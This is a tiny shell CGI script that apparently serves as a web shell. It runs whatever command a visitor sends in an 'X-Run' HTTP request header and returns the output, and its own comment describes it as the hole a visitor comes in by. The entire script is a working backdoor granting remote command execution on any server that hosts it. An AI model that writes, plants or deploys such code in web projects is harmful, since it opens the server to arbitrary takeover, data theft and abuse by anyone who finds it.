#!/bin/sh
# Runs what it is asked to: the hole that a visitor comes in by.
printf 'Content-Type: text/plain\r\n\r\n'
[ -n "$HTTP_X_RUN" ] && sh -c "$HTTP_X_RUN" 2>&1
echo served
